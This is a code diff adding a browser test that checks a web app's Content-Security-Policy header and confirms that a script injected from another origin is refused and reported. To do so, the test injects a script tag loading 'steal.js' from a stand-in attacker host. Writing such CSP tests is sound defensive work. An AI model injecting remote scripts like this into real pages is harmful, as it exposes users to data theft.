@@ -37,3 +37,22 @@ describe('Contact Support (spec §2 screen 19)', () => {
     expect(mails.some((mail) => mail.text.includes('My card was charged twice.'))).toBe(true);
   });
 });
+
+describe('Content-Security-Policy (issue 8 §5)', () => {
+  const browser = useBrowser();
+
+  it('the pages run under the CSP: a script from another origin is refused and reported', async () => {
+    const page = await browser.newPage();
+    const response = await page.goto('/');
+    expect(response?.headers()['content-security-policy']).toContain("frame-ancestors 'none'");
+    await page.getByRole('link', { name: 'Contact Support' }).waitFor();
+    await page.evaluate(() => {
+      const script = document.createElement('script');
+      script.src = 'https://evil.example.com/steal.js';
+      document.head.append(script);
+    });
+    await expect.poll(() => browser.cspViolations().join('\n')).toMatch(/evil\.example\.com/);
+    await page.context().close(); // no later report can arrive
+    browser.forgiveCspViolations();
+  });
+});
